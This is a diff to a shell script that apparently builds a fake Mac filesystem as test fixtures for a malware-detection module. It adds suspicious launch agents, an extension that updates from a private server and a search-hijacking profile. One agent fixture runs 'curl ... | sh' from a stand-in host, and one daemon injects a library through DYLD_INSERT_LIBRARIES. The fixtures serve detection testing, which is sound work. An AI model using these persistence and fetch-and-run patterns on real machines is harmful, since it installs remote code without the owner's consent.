@@ -243,6 +243,186 @@ fill "$lib/Group Containers/ABCDE12345.com.vellum.shared/Modèles/lettre.scribet
 fill "$lib/Containers/net.ardoise.client/Data/Library/Application Support/tableaux.db" 900000
 # ---- end of where files come from ----------------------------------------------------------------------------
 
+# ---- What the malware module finds -------------------------------------------------------------------------
+# Signatures are records in "user.quorvane.codesign" ("<authority> <sha256 of the content>"); a download from the
+# Internet carries "user.com.apple.quarantine". Without extended attributes every program reads as unsigned and
+# only what scores without a signature is found.
+# sign FILE AUTHORITY: signs the file's present content.
+sign() {
+    set_attribute "$1" "user.quorvane.codesign" "$2 $(sha256sum -- "$1" | cut -d' ' -f1)"
+}
+# program FILE: a small executable.
+program() {
+    mkdir -p "$(dirname "$1")"
+    printf '#!/bin/sh\n# %s\nexit 0\n' "$(basename "$1")" > "$1"
+    chmod 755 "$1"
+}
+# job PLIST LABEL: a launchd property list; the rest of its keys come on standard input, as XML.
+job() {
+    mkdir -p "$(dirname "$1")"
+    {
+        printf '%s\n<plist version="1.0">\n<dict>\n    <key>Label</key>\n    <string>%s</string>\n' "$plist_header" "$2"
+        cat
+        printf '</dict>\n</plist>\n'
+    } > "$1"
+}
+xml() { printf '%s' "$1" | sed 's/&/\&amp;/g; s/</\&lt;/g; s/>/\&gt;/g'; }
+agents="$lib/LaunchAgents"
+root_xml="$(xml "$root")"
+
+# The user's agents: Lumen Sync's own, signed (not listed); one whose label names a documented adware family
+# (confirmed); a shell job that downloads and runs code (likely); an unsigned program with a generated name in
+# a hidden folder of /Users/Shared, downloaded by a browser and waking every two minutes (likely).
+sign "$home/Applications/Lumen Sync.app/Contents/MacOS/Lumen Sync" developerID
+job "$agents/com.lumenlabs.sync.agent.plist" com.lumenlabs.sync.agent <<PLIST
+    <key>Program</key>
+    <string>$home_xml/Applications/Lumen Sync.app/Contents/MacOS/Lumen Sync</string>
+    <key>RunAtLoad</key>
+    <true/>
+PLIST
+program "$lib/Application Support/SearchMine/helper"
+job "$agents/com.searchmine.helper.plist" com.searchmine.helper <<PLIST
+    <key>ProgramArguments</key>
+    <array>
+        <string>$home_xml/Library/Application Support/SearchMine/helper</string>
+        <string>--silent</string>
+    </array>
+    <key>RunAtLoad</key>
+    <true/>
+PLIST
+job "$agents/fr.relais-maj.agent.plist" fr.relais-maj.agent <<PLIST
+    <key>ProgramArguments</key>
+    <array>
+        <string>/bin/sh</string>
+        <string>-c</string>
+        <string>curl -fsSL https://relais-maj.example/u.sh | sh</string>
+    </array>
+    <key>RunAtLoad</key>
+    <true/>
+PLIST
+hidden="$root/Users/Shared/.cache-9f2"
+program "$hidden/a8f3c91e7d20"
+set_attribute "$hidden/a8f3c91e7d20" "user.com.apple.quarantine" "0083;6750a1c2;Google Chrome;8F1E2D3C-4B5A-4968-8776-A5B4C3D2E1F0"
+job "$agents/a8f3c91e7d20.plist" a8f3c91e7d20 <<PLIST
+    <key>Program</key>
+    <string>$(xml "$hidden")/a8f3c91e7d20</string>
+    <key>StartInterval</key>
+    <integer>120</integer>
+PLIST
+
+# Agents of every session: Ondine's, notarized (not listed); a weather helper changed after it was signed, waking
+# every minute (suspicious).
+sign "$root/Applications/Ondine.app/Contents/MacOS/Ondine" notarized
+job "$root/Library/LaunchAgents/io.ondine.player.helper.plist" io.ondine.player.helper <<PLIST
+    <key>ProgramArguments</key>
+    <array>
+        <string>$root_xml/Applications/Ondine.app/Contents/MacOS/Ondine</string>
+        <string>--background</string>
+    </array>
+PLIST
+program "$root/Library/Application Support/Tempo Meteo/tempod"
+sign "$root/Library/Application Support/Tempo Meteo/tempod" developerID
+printf '# patched\n' >> "$root/Library/Application Support/Tempo Meteo/tempod"
+job "$root/Library/LaunchAgents/com.tempometeo.agent.plist" com.tempometeo.agent <<PLIST
+    <key>Program</key>
+    <string>$root_xml/Library/Application Support/Tempo Meteo/tempod</string>
+    <key>StartInterval</key>
+    <integer>60</integer>
+PLIST
+
+# Daemons: one of Apple's (not listed); one injecting a library with an unsigned program in /private/tmp
+# (likely); one pointing to a missing program with a generated name (suspicious).
+program "$root/System/Library/CoreServices/backupd-helper"
+sign "$root/System/Library/CoreServices/backupd-helper" apple
+job "$root/Library/LaunchDaemons/com.apple.backupd-helper.plist" com.apple.backupd-helper <<PLIST
+    <key>Program</key>
+    <string>$root_xml/System/Library/CoreServices/backupd-helper</string>
+PLIST
+program "$root/private/tmp/mediaupdated"
+fill "$root/private/tmp/libmediahook.dylib" 20000
+job "$root/Library/LaunchDaemons/com.mediaupdate.daemon.plist" com.mediaupdate.daemon <<PLIST
+    <key>Program</key>
+    <string>$root_xml/private/tmp/mediaupdated</string>
+    <key>EnvironmentVariables</key>
+    <dict>
+        <key>DYLD_INSERT_LIBRARIES</key>
+        <string>$root_xml/private/tmp/libmediahook.dylib</string>
+    </dict>
+    <key>RunAtLoad</key>
+    <true/>
+PLIST
+job "$root/Library/LaunchDaemons/com.zxcvbnmqk.daemon.plist" com.zxcvbnmqk.daemon <<PLIST
+    <key>Program</key>
+    <string>$root_xml/Library/Application Support/Helpers/zxcvbnmqk</string>
+    <key>KeepAlive</key>
+    <true/>
+PLIST
+
+# A documented adware location.
+fill "$root/Library/Application Support/MacKeeper/MacKeeper Helper" 300000
+fill "$root/Library/Application Support/MacKeeper/Settings.plist" 2000
+
+# Browser extensions. In Chrome's Default profile: one from the store (not listed), and one dropped by a
+# preferences file that updates from a private server, named through its _locales (likely). In Brave's:
+# one from the store that updates privately, reads every page and intercepts traffic in its version 10
+# (likely), its version 9 still beside it.
+# extension PROFILE ID VERSION MANIFEST-JSON
+extension() {
+    mkdir -p "$1/Extensions/$2/$3"
+    printf '%s\n' "$4" > "$1/Extensions/$2/$3/manifest.json"
+    fill "$1/Extensions/$2/$3/background.js" 40000
+}
+chrome="$lib/Application Support/Google/Chrome/Default"
+extension "$chrome" aapocclcgogkmnckokdopfmhonfmgoek 0.10_1 \
+    '{"name": "Diapositives", "version": "0.10.1", "update_url": "https://clients2.google.com/service/update2/crx", "permissions": ["storage"]}'
+extension "$chrome" kbmfpngjjgdllneeigpgjifpgocmfgmb 3.1.0_0 \
+    '{"name": "__MSG_extName__", "version": "3.1.0", "default_locale": "fr", "update_url": "https://maj.coupons-express.example/update.xml", "permissions": ["tabs", "storage"]}'
+mkdir -p "$chrome/Extensions/kbmfpngjjgdllneeigpgjifpgocmfgmb/3.1.0_0/_locales/en"
+printf '{"extname": {"message": "Coupons Express"}}\n' \
+    > "$chrome/Extensions/kbmfpngjjgdllneeigpgjifpgocmfgmb/3.1.0_0/_locales/en/messages.json"
+cat > "$chrome/Preferences" <<JSON
+{"extensions": {"settings": {
+  "aapocclcgogkmnckokdopfmhonfmgoek": {"location": 1, "state": 1},
+  "kbmfpngjjgdllneeigpgjifpgocmfgmb": {"location": 2, "state": 1}
+}}, "profile": {"name": "Personne 1"}}
+JSON
+brave="$lib/Application Support/BraveSoftware/Brave-Browser/Profile 1"
+extension "$brave" hdokiejnpimakedhajhdlcegeplioahd 9.4.1_0 \
+    '{"name": "Onglets Malins", "version": "9.4.1", "update_url": "https://clients2.google.com/service/update2/crx", "permissions": ["tabs"]}'
+extension "$brave" hdokiejnpimakedhajhdlcegeplioahd 10.0.2_0 \
+    '{"name": "Onglets Malins", "version": "10.0.2", "update_url": "https://cdn.onglets-malins.example/crx", "permissions": ["tabs", "webRequest", "webRequestBlocking"], "host_permissions": ["<all_urls>"]}'
+cat > "$brave/Preferences" <<JSON
+{"extensions": {"settings": {"hdokiejnpimakedhajhdlcegeplioahd": {"location": 1, "state": 1}}}}
+JSON
+
+# A browser's settings imposed by a configuration profile, and the profile in the store the profiles tool reads.
+mkdir -p "$root/Library/Managed Preferences" "$root/private/var/db/ConfigurationProfiles/Store"
+cat > "$root/Library/Managed Preferences/com.google.Chrome.plist" <<PLIST
+$plist_header
+<plist version="1.0">
+<dict>
+    <key>HomepageLocation</key>
+    <string>https://recherche-rapide.example/</string>
+    <key>DefaultSearchProviderSearchURL</key>
+    <string>https://recherche-rapide.example/q?s={searchTerms}</string>
+</dict>
+</plist>
+PLIST
+cat > "$root/private/var/db/ConfigurationProfiles/Store/com.recherche-rapide.settings.mobileconfig" <<PLIST
+$plist_header
+<plist version="1.0">
+<dict>
+    <key>PayloadIdentifier</key>
+    <string>com.recherche-rapide.settings</string>
+    <key>PayloadDisplayName</key>
+    <string>Recherche Rapide</string>
+    <key>PayloadType</key>
+    <string>Configuration</string>
+</dict>
+</plist>
+PLIST
+# ---- end of what the malware module finds --------------------------------------------------------------------
+
 bash "$(dirname "$0")/install-standins.sh" "$root"
 
 echo "Demonstration Mac ready in $root (home: $home)"
